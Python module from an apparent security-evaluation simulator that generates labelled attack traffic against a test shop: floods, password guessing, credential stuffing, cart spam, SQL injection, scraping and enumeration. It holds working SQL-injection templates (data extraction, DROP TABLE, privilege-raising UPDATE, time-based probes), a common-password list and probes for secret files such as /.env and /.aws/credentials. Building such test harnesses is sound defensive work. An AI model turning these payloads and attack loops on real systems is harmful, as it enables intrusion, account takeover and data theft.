"""The attacks the simulator mixes into shop traffic, one coroutine per kind.

Each attack starts at its offset, sends at its rate (per client) until its length is over, and does not stop when the
shop refuses it: what the shop still serves after a block is part of what the evaluation measures. Requests that
are themselves the attack (a payload, a guess, a flood hit, a probe) are marked ``malicious`` in the ground truth;
what an attacker sends to prepare (fetch a login form, sign up, log in) is attacker traffic but not marked.

Attackers use addresses from the documentation ranges (198.51.100.0/24 for single sources, 203.0.113.0/24 and
192.0.2.0/24 for the distributed flood), never one a shopper has.
"""

from __future__ import annotations

import asyncio
import logging
import math
import random
import re
import time
from collections.abc import Awaitable, Callable, Sequence
from contextlib import AsyncExitStack
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING
from urllib.parse import unquote

from unseen.simulate.shoppers import FIRST_NAMES, LAST_NAMES, USER_AGENTS

if TYPE_CHECKING:
    from unseen.simulate.traffic import RunContext, SimClient

log = logging.getLogger(__name__)

ATTACK_KINDS = ("flood_single", "flood_distributed", "password_guessing", "credential_stuffing", "cart_spam",
                "sql_injection", "scraping", "enumeration")
PRESETS = {
    "all": ATTACK_KINDS,
    "none": (),
    "floods": ("flood_single", "flood_distributed"),
    "logins": ("password_guessing", "credential_stuffing"),
    "injection": ("sql_injection",),
    "bots": ("cart_spam", "scraping", "enumeration"),
}
# kind: (start, length) as fractions of the run, requests per second of each client, clients
_DEFAULTS = {
    "flood_single": (0.20, 0.15, 50.0, 1),
    "flood_distributed": (0.55, 0.15, 5.0, 20),
    "password_guessing": (0.10, 0.35, 1.0, 1),
    "credential_stuffing": (0.35, 0.35, 0.4, 3),
    "cart_spam": (0.15, 0.40, 4.0, 1),
    "sql_injection": (0.30, 0.30, 2.0, 1),
    "scraping": (0.45, 0.40, 6.0, 1),
    "enumeration": (0.60, 0.30, 3.0, 1),
}
TOOL_AGENTS = {
    "password_guessing": "Mozilla/5.0 (Hydra)",
    "cart_spam": "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/131.0.0.0 "
                 "Safari/537.36",
    "sql_injection": "sqlmap/1.8.2#stable (https://sqlmap.org)",
    "scraping": "python-requests/2.32.3",
    "enumeration": "gobuster/3.6",
}
STUFFING_HIT_RATE = 0.03
"""Share of leaked pairs for a real account whose password is still the right one (reused passwords)."""
COMMON_PASSWORDS = (
    "123456", "password", "123456789", "12345678", "qwerty", "111111", "1234567", "letmein", "welcome", "abc123",
    "password1", "iloveyou", "admin", "monkey", "dragon", "sunshine", "princess", "football", "baseball", "shadow",
    "master", "qwerty123", "passw0rd", "trustno1", "superman", "hello123", "freedom", "whatever", "starwars",
    "Password123", "P@ssw0rd", "Welcome1", "changeme", "secret", "login123", "summer2025", "Winter2025!", "azerty",
)
PROBE_PATHS = (
    "/admin", "/admin/login", "/administrator/", "/wp-login.php", "/wp-admin/", "/.env", "/.git/config",
    "/config.json", "/backup.zip", "/db.sql", "/phpmyadmin/", "/server-status", "/api/users", "/api/users/1",
    "/api/admin", "/api/v1/users", "/api/internal/metrics", "/actuator/health", "/debug", "/console",
    "/.aws/credentials", "/api/orders/export", "/api/operator/decisions", "/operator", "/docs", "/openapi.json",
    "/robots.txt", "/sitemap.xml", "/login.php", "/cgi-bin/test.cgi", "/xmlrpc.php", "/.DS_Store",
    "/api/products/0", "/api/products/-1", "/api/auth/users", "/static/../.env",
)


@dataclass(frozen=True)
class AttackSpec:
    """One attack in a scenario: its kind, when it starts and for how long (seconds after the run's start), how many
    requests per second each of its clients sends, and how many clients (addresses) it uses."""

    kind: str
    start_s: float
    duration_s: float
    rate: float
    clients: int = 1

    def __post_init__(self) -> None:
        if self.kind not in ATTACK_KINDS:
            raise ValueError(f"unknown attack kind {self.kind!r}; expected one of: {', '.join(ATTACK_KINDS)}")
        if self.start_s < 0 or self.duration_s <= 0 or self.rate <= 0 or self.clients < 1:
            raise ValueError(f"{self.kind}: start {self.start_s!r} s, length {self.duration_s!r} s, rate "
                             f"{self.rate!r}/s and clients {self.clients!r} must be positive (start may be 0)")


def default_attack(kind: str, duration_s: float, rate_scale: float = 1.0) -> AttackSpec:
    start, length, rate, clients = _DEFAULTS[kind]
    return AttackSpec(kind, round(start * duration_s, 2), round(length * duration_s, 2), rate * rate_scale, clients)


def default_attacks(kinds: Sequence[str], duration_s: float, rate_scale: float = 1.0) -> tuple[AttackSpec, ...]:
    unknown = [k for k in kinds if k not in ATTACK_KINDS]
    if unknown:
        raise ValueError(f"unknown attack kind {unknown[0]!r}; expected one of: {', '.join(ATTACK_KINDS)}")
    return tuple(default_attack(kind, duration_s, rate_scale) for kind in kinds)


_SPEC = re.compile(r"^(?P<kind>[a-z_]+)(?:@(?P<start>\d+(?:\.\d+)?)(?:\+(?P<length>\d+(?:\.\d+)?))?)?"
                   r"(?::(?P<rate>\d+(?:\.\d+)?))?(?:x(?P<clients>\d+))?$")


def parse_attacks(text: str, duration_s: float, rate_scale: float = 1.0) -> tuple[AttackSpec, ...]:
    """Attacks from a command-line list: kinds and presets, comma-separated, each kind with optional timing.

    ``all`` (every kind), ``none``, the presets ``floods``, ``logins``, ``injection``, ``bots``, or a kind, optionally
    as ``kind@START+LENGTH:RATExCLIENTS``: ``flood_single@20+15:50`` starts 20 s in, lasts 15 s, at 50 requests
    per second; ``flood_distributed@60:4x40`` uses 40 addresses at 4 per second each. Missing parts take the
    defaults for a run of ``duration_s``.
    """
    specs: list[AttackSpec] = []
    for item in (part.strip() for part in text.split(",")):
        if not item:
            continue
        if item in PRESETS:
            specs += [default_attack(kind, duration_s, rate_scale) for kind in PRESETS[item]]
            continue
        found = _SPEC.match(item)
        if not found or found["kind"] not in ATTACK_KINDS:
            raise ValueError(f"unknown attack {item!r}; expected a kind ({', '.join(ATTACK_KINDS)}), a preset "
                             f"({', '.join(PRESETS)}), or kind@START+LENGTH:RATExCLIENTS such as flood_single@20+15:50")
        base = default_attack(found["kind"], duration_s, rate_scale)
        start = float(found["start"]) if found["start"] else base.start_s
        if start >= duration_s:
            raise ValueError(f"{item!r} starts at {start:g} s, after the run's {duration_s:g} s")
        length = float(found["length"]) if found["length"] else min(base.duration_s, duration_s - start)
        specs.append(AttackSpec(base.kind, start, length, float(found["rate"]) if found["rate"] else base.rate,
                                int(found["clients"]) if found["clients"] else base.clients))
    return tuple(specs)


def plan_addresses(specs: Sequence[AttackSpec], seed: int) -> list[list[str]]:
    """Distinct documentation-range addresses for every client of every attack, the same for the same seed."""
    rng = random.Random(f"{seed}:attack-addresses")
    singles = [f"198.51.100.{n}" for n in range(1, 255)]
    crowd = [f"203.0.113.{n}" for n in range(1, 255)] + [f"192.0.2.{n}" for n in range(1, 254)]
    rng.shuffle(singles)
    rng.shuffle(crowd)
    planned = []
    for spec in specs:
        pool = crowd if spec.kind == "flood_distributed" else singles
        if spec.clients > len(pool):
            raise ValueError(f"{spec.kind} asks for {spec.clients} addresses; only {len(pool)} are left in its "
                             "documentation ranges")
        planned.append([pool.pop() for _ in range(spec.clients)])
    return planned


# --- SQL injection payloads ---------------------------------------------------------------------------------------


def load_sqli_payloads(folder: Path) -> list[str]:
    """Every payload line of every list in ``folder`` (comments, blanks and the licence and source notes skipped).

    Some lists are written to be pasted into a URL (``%20`` for a space); those are decoded once, so that every
    payload is plain text that each channel then encodes as it must.
    """
    if not folder.is_dir():
        raise FileNotFoundError(f"no SQL-injection payload folder at {folder}; expected the shared reference data "
                                "(set UNSEEN_REFERENCE_DATA to the folder that holds sqli-payloads/)")
    payloads: dict[str, None] = {}
    for path in sorted(folder.iterdir()):
        if not path.is_file() or path.name.startswith(("LICENSE", "SOURCE", "README")):
            continue
        for line in path.read_text(encoding="utf-8", errors="replace").splitlines():
            if not line.strip() or line.lstrip().startswith("#"):
                continue
            payloads[unquote(line) if re.search(r"%[0-9A-Fa-f]{2}", line) else line] = None
    if not payloads:
        raise FileNotFoundError(f"the payload folder {folder} holds no payloads")
    return list(payloads)


_TEMPLATES = (
    "' OR '{a}'='{a}", "' OR {n}={n}--", "\" OR \"{a}\"=\"{a}\"--", "{n}' OR '1'='1'/*", "{user}'--", "{user}' #",
    "' UNION SELECT {cols}--", "{n} UNION ALL SELECT {cols}-- -", "') UNION SELECT {cols} FROM {table}--",
    "'; DROP TABLE {table};--", "'; UPDATE {table} SET role='operator' WHERE id={n};--", "' AND SLEEP({s})--",
    "1) AND (SELECT {n} FROM (SELECT(SLEEP({s})))x)--", "'||pg_sleep({s})--", "1; WAITFOR DELAY '0:0:{s}'--",
    "' AND 1=CAST((SELECT version()) AS INT)--", "' AND extractvalue(1,concat(0x7e,(SELECT user())))--",
    "1 AND {n}={n}", "1 AND {n}={m}", "' AND substr((SELECT password_hash FROM {table} LIMIT 1),1,1)='{c}",
    "' AND (SELECT COUNT(*) FROM sqlite_master)>{n}--", "' UNION SELECT name, sql FROM sqlite_master--",
    "1' ORDER BY {n}--", "{n}' AND '{a}' LIKE '{a}", "' OR EXISTS(SELECT * FROM {table})--",
)
_TABLES = ("user", "users", "shop_order", "product", "user_session", "information_schema.tables", "sqlite_master")
_KEYWORDS = re.compile(r"\b(SELECT|UNION|ALL|FROM|WHERE|AND|OR|ORDER|BY|SLEEP|DROP|TABLE|UPDATE|SET|LIKE|EXISTS)\b")


def generate_sqli_payloads(rng: random.Random, n: int = 200) -> list[str]:
    """Payloads from templates with random values, some in mixed case or with comments for spaces (evasions)."""
    out: dict[str, None] = {}
    for _ in range(n * 20):
        if len(out) >= n:
            break
        columns = ",".join(["NULL"] * rng.randint(1, 8)) if rng.random() < 0.7 else "email,password_hash"
        text = rng.choice(_TEMPLATES).format(
            a=rng.choice("abcxyz") * rng.randint(1, 3), n=rng.randint(1, 99), m=rng.randint(100, 999),
            s=rng.randint(1, 10), cols=columns, table=rng.choice(_TABLES), user=rng.choice(("admin", "root", "test")),
            c=rng.choice("abcdef0123456789$"))
        if rng.random() < 0.25:
            text = _KEYWORDS.sub(lambda m: "".join(ch.lower() if rng.random() < 0.5 else ch for ch in m[0]), text)
        if rng.random() < 0.15:
            text = text.replace(" ", "/**/")
        out[text] = None
    return list(out)


# --- pacing and clients -------------------------------------------------------------------------------------------


async def paced(ctx: RunContext, spec: AttackSpec, step: Callable[[int], Awaitable[None]], *, phase: float = 0.0,
                concurrent: bool = False, max_pending: int = 64) -> None:
    """Call ``step(0)``, ``step(1)``, ... ``spec.rate`` times a second from the attack's start to its end.

    ``concurrent`` keeps the schedule whatever the answers take (a flood, up to ``max_pending`` at once);
    otherwise each step waits for the previous one, as a tool that reads its answers does.
    """
    from unseen.simulate.traffic import RunOver

    interval = 1.0 / spec.rate
    at = ctx.started + spec.start_s + phase
    end = min(ctx.started + spec.start_s + spec.duration_s, ctx.deadline)
    pending: set[asyncio.Task] = set()
    failures: list[BaseException] = []

    async def one(i: int) -> None:
        try:
            await step(i)
        except RunOver:
            pass

    def done(task: asyncio.Task) -> None:
        pending.discard(task)
        if not task.cancelled() and task.exception() is not None:
            failures.append(task.exception())

    i = 0
    try:
        while at < end and not ctx.over():
            await asyncio.sleep(max(0.0, at - time.time()))
            if concurrent:
                if len(pending) >= max_pending:
                    await asyncio.wait(pending, return_when=asyncio.FIRST_COMPLETED)
                task = asyncio.create_task(one(i))
                pending.add(task)
                task.add_done_callback(done)
                at += interval
            else:
                try:
                    await step(i)
                except RunOver:
                    break
                at = max(at + interval, time.time())
            i += 1
    finally:
        if pending:
            await asyncio.gather(*pending, return_exceptions=True)
    if failures:
        raise failures[0]


def _browser(rng: random.Random) -> str:
    return rng.choice(list(USER_AGENTS.values()))


def _agent(ctx: RunContext, kind: str, rng: random.Random) -> str:
    if ctx.scenario.tool_user_agents and kind in TOOL_AGENTS:
        return TOOL_AGENTS[kind]
    return _browser(rng)


async def _attacker(stack: AsyncExitStack, ctx: RunContext, spec: AttackSpec, ip: str, agent: str, *,
                    in_flight: int = 1) -> SimClient:
    from unseen.simulate.traffic import ClientProfile

    client = ctx.client(ClientProfile(ctx.client_id(spec.kind), "attacker", spec.kind, ip, agent),
                        in_flight=in_flight)
    stack.push_async_callback(client.aclose)
    return client


async def _sign_in(client: SimClient, email: str, password: str, *, number: int) -> bool:
    client.account = email
    client.session = f"{client.profile.client_id}/s{number}"
    response = await client.request("POST", "/api/auth/login", action="login", json={"email": email,
                                                                                        "password": password})
    ok = response is not None and response.status_code == 200
    client.token = response.json()["token"] if ok else None
    return ok


async def _sign_up(client: SimClient, rng: random.Random, name: str) -> tuple[str, str]:
    email = f"{name.lower().replace(' ', '.')}.{rng.getrandbits(32):08x}@mailbox.example"
    password = f"bot-{rng.getrandbits(48):012x}"
    await client.request("POST", "/api/auth/register", action="register",
                         json={"email": email, "full_name": name, "password": password})
    return email, password


# --- the attacks ------------------------------------------------------------------------------------------------


async def _flood_hit(client: SimClient, rng: random.Random, ids: Sequence[int]) -> None:
    roll = rng.random()
    if roll < 0.4:
        await client.request("GET", "/api/products", action="flood", malicious=True, params={"page": rng.randint(1, 5)})
    elif roll < 0.6:
        await client.request("GET", "/", action="flood", malicious=True)
    elif roll < 0.8:
        await client.request("GET", "/api/feed", action="flood", malicious=True)
    else:
        await client.request("GET", f"/api/products/{rng.choice(ids)}", action="flood", malicious=True)


async def flood_single(ctx: RunContext, spec: AttackSpec, ips: Sequence[str], rng: random.Random) -> None:
    async with AsyncExitStack() as stack:
        client = await _attacker(stack, ctx, spec, ips[0], _browser(rng), in_flight=8)
        await paced(ctx, spec, lambda i: _flood_hit(client, rng, ctx.catalogue.ids), concurrent=True)


async def flood_distributed(ctx: RunContext, spec: AttackSpec, ips: Sequence[str], rng: random.Random) -> None:
    async with AsyncExitStack() as stack:
        # Two requests in flight per bot at most, so that a stalled shop cannot make the bots take every slot.
        bots = [await _attacker(stack, ctx, spec, ip, _browser(rng), in_flight=2) for ip in ips]
        await asyncio.gather(*(
            paced(ctx, spec, lambda i, bot=bot: _flood_hit(bot, rng, ctx.catalogue.ids),
                  phase=rng.uniform(0, min(1 / spec.rate, 1.0)), concurrent=True, max_pending=4)
            for bot in bots))


def _guesses(victim: str, avoid: str) -> list[str]:
    name = victim.split("@")[0].split(".")[0]
    personal = [f"{name}123", f"{name}2025", f"{name.title()}!", f"{name.title()}2024!", f"{name}{name}"]
    return [p for p in (*COMMON_PASSWORDS, *personal) if p != avoid]


async def password_guessing(ctx: RunContext, spec: AttackSpec, ips: Sequence[str], rng: random.Random) -> None:
    victim = ctx.spare_accounts[0].email if ctx.spare_accounts else "admin@shoppers.example"
    guesses = _guesses(victim, ctx.demo_password)
    async with AsyncExitStack() as stack:
        client = await _attacker(stack, ctx, spec, ips[0], _agent(ctx, spec.kind, rng))
        client.account = victim

        async def step(i: int) -> None:
            password = guesses[i % len(guesses)]
            if i % 3 == 2:  # every third guess through the HTML form, as a form-filling tool would
                if client.csrf is None:
                    await client.request("GET", "/login", action="login_page")
                await client.request("POST", "/login", action="guess", malicious=True, data={
                    "csrf_token": client.csrf or "", "next": "/", "email": victim, "password": password})
            else:
                await client.request("POST", "/api/auth/login", action="guess", malicious=True,
                                     json={"email": victim, "password": password})

        await paced(ctx, spec, step)


def _leaked_pairs(ctx: RunContext, spec: AttackSpec, rng: random.Random) -> list[tuple[str, str]]:
    real = [a.email for a in ctx.spare_accounts[1:]]  # the first spare account is the password-guessing victim
    rng.shuffle(real)
    domains = ("mail.example", "inbox.example", "post.example", "shoppers.example")
    pairs = []
    for _ in range(math.ceil(spec.rate * spec.duration_s * spec.clients) + 10):
        if real and rng.random() < 0.5:
            email = real[len(pairs) % len(real)]
            password = ctx.demo_password if rng.random() < STUFFING_HIT_RATE else rng.choice(COMMON_PASSWORDS)
        else:
            email = (f"{rng.choice(FIRST_NAMES)}.{rng.choice(LAST_NAMES).replace(' ', '')}{rng.randint(1, 99)}"
                     f"@{rng.choice(domains)}").lower()
            password = rng.choice(COMMON_PASSWORDS) + rng.choice(("", "1", "!", "2024"))
        pairs.append((email, password))
    return pairs


async def credential_stuffing(ctx: RunContext, spec: AttackSpec, ips: Sequence[str], rng: random.Random) -> None:
    pairs = iter(_leaked_pairs(ctx, spec, rng))
    async with AsyncExitStack() as stack:
        clients = [await _attacker(stack, ctx, spec, ip, _browser(rng)) for ip in ips]

        async def worker(client: SimClient) -> None:
            async def step(i: int) -> None:
                email, password = next(pairs, (None, None))
                if email is None:
                    return
                client.account = email
                response = await client.request("POST", "/api/auth/login", action="stuff", malicious=True,
                                                json={"email": email, "password": password},
                                                headers={"User-Agent": _browser(rng)})  # rotated, as stuffing kits do
                if response is not None and response.status_code == 200:
                    client.token = response.json()["token"]
                    await client.request("GET", "/api/auth/me", action="verify_account", malicious=True)
                    client.token = None

            await paced(ctx, spec, step, phase=rng.uniform(0, min(1 / spec.rate, 1.0)))

        await asyncio.gather(*(worker(client) for client in clients))


async def cart_spam(ctx: RunContext, spec: AttackSpec, ips: Sequence[str], rng: random.Random) -> None:
    ids = ctx.catalogue.ids
    async with AsyncExitStack() as stack:
        client = await _attacker(stack, ctx, spec, ips[0], _agent(ctx, spec.kind, rng))
        email, password = await _sign_up(client, rng, "Deal Hunter")
        logins = [1, time.time()]
        await _sign_in(client, email, password, number=logins[0])
        added: list[int] = []

        async def step(i: int) -> None:
            if client.token is None and time.time() - logins[1] > 2:  # the session was ended: log in again
                logins[0] += 1
                logins[1] = time.time()
                await _sign_in(client, email, password, number=logins[0])
            if added and i % 8 == 7:
                response = await client.request("DELETE", f"/api/cart/{added.pop()}", action="cart_remove",
                                                malicious=True)
            else:
                product_id = rng.choice(ids)
                response = await client.request("POST", "/api/cart", action="cart_add", malicious=True,
                                                json={"product_id": product_id, "quantity": rng.randint(1, 5)})
                if response is not None and response.status_code == 200:
                    added.append(product_id)
            if response is not None and response.status_code == 401:
                client.token = None

        await paced(ctx, spec, step)


_CHANNELS = ("query", "json_login", "query_html", "form_login", "json_cart", "query_category")


async def sql_injection(ctx: RunContext, spec: AttackSpec, ips: Sequence[str], rng: random.Random) -> None:
    listed = list(ctx.payloads)
    rng.shuffle(listed)
    generated = generate_sqli_payloads(rng)
    payloads = [p for pair in zip(listed, generated) for p in pair] + listed[len(generated):] + \
        generated[len(listed):]
    async with AsyncExitStack() as stack:
        client = await _attacker(stack, ctx, spec, ips[0], _agent(ctx, spec.kind, rng))

        async def step(i: int) -> None:
            payload, channel = payloads[i % len(payloads)], _CHANNELS[i % len(_CHANNELS)]
            send = dict(action=f"payload_{channel}", malicious=True)
            if channel == "query":
                await client.request("GET", "/api/products", params={"q": payload}, **send)
            elif channel == "query_html":
                await client.request("GET", "/products", params={"q": payload}, **send)
            elif channel == "query_category":
                await client.request("GET", "/api/products", params={"category": payload}, **send)
            elif channel == "json_login":
                body = {"email": payload, "password": "x"} if i % 2 else \
                    {"email": "admin@shoppers.example", "password": payload}
                await client.request("POST", "/api/auth/login", json=body, **send)
            elif channel == "json_cart":
                await client.request("POST", "/api/cart", json={"product_id": payload, "quantity": 1}, **send)
            else:
                if client.csrf is None:
                    await client.request("GET", "/login", action="login_page")
                await client.request("POST", "/login", data={"csrf_token": client.csrf or "", "next": "/",
                                                             "email": payload, "password": "x"}, **send)

        await paced(ctx, spec, step)


async def scraping(ctx: RunContext, spec: AttackSpec, ips: Sequence[str], rng: random.Random) -> None:
    max_id = max(ctx.catalogue.max_id, 1)
    # The walk runs over about twice the id range in the attack's time, so about half its answers are 404s.
    stride = max(1, round(2 * max_id / max(spec.rate * spec.duration_s, 1)))
    async with AsyncExitStack() as stack:
        client = await _attacker(stack, ctx, spec, ips[0], _agent(ctx, spec.kind, rng))

        async def step(i: int) -> None:
            if i % 25 == 0:
                await client.request("GET", "/api/products", action="scrape_list", malicious=True,
                                     params={"page": i // 25 + 1, "per_page": 100})
            else:
                product_id = 1 + ((i - i // 25 - 1) * stride) % (3 * max_id)
                await client.request("GET", f"/api/products/{product_id}", action="scrape", malicious=True)

        await paced(ctx, spec, step)


_OPERATOR_PROBES = (("GET", "/operator/products"), ("GET", "/operator/products/{id}"), ("POST", "/api/products"),
                    ("PATCH", "/api/products/{id}"), ("DELETE", "/api/products/{id}"))


async def enumeration(ctx: RunContext, spec: AttackSpec, ips: Sequence[str], rng: random.Random) -> None:
    max_id = max(ctx.catalogue.max_id, 1)
    known = [a.email for a in ctx.spare_accounts] or ["jane.doe@shoppers.example"]
    paths = list(PROBE_PATHS)
    rng.shuffle(paths)
    async with AsyncExitStack() as stack:
        client = await _attacker(stack, ctx, spec, ips[0], _agent(ctx, spec.kind, rng))
        email, password = await _sign_up(client, rng, "Test User")
        await _sign_in(client, email, password, number=1)
        order = [0]

        async def step(i: int) -> None:
            probe = dict(action="probe", malicious=True)
            roll = rng.random()
            if roll < 0.35:  # other people's orders, one id after the other
                order[0] += 1
                await client.request("GET", f"/api/orders/{order[0]}", **probe)
            elif roll < 0.5:
                method, path = rng.choice(_OPERATOR_PROBES)
                body = {"name": "x", "category": "x", "price_cents": 1, "stock": 1} if method == "POST" else \
                    {"price_cents": 1} if method == "PATCH" else None
                await client.request(method, path.format(id=rng.randint(1, max_id)), json=body, **probe)
            elif roll < 0.6:  # which e-mails have accounts (a 409 says so)
                await client.request("POST", "/api/auth/register", **probe, json={
                    "email": rng.choice(known), "full_name": "Test User", "password": "Password123!"})
            elif roll < 0.7:
                await client.request("GET", f"/api/products/{rng.randint(max_id + 1, 10**6)}", **probe)
            else:
                await client.request("GET", paths[i % len(paths)], **probe)

        await paced(ctx, spec, step)


RUNNERS = {"flood_single": flood_single, "flood_distributed": flood_distributed,
           "password_guessing": password_guessing, "credential_stuffing": credential_stuffing, "cart_spam": cart_spam,
           "sql_injection": sql_injection, "scraping": scraping, "enumeration": enumeration}


async def run_attack(ctx: RunContext, spec: AttackSpec, addresses: Sequence[str]) -> None:
    """Wait for the attack's start, then play it until its end or the run's."""
    from unseen.simulate.traffic import RunOver

    if not await ctx.sleep_until(spec.start_s):
        return
    rng = random.Random(f"{ctx.scenario.seed}:{spec.kind}:{spec.start_s}")
    try:
        await RUNNERS[spec.kind](ctx, spec, addresses, rng)
    except RunOver:
        pass
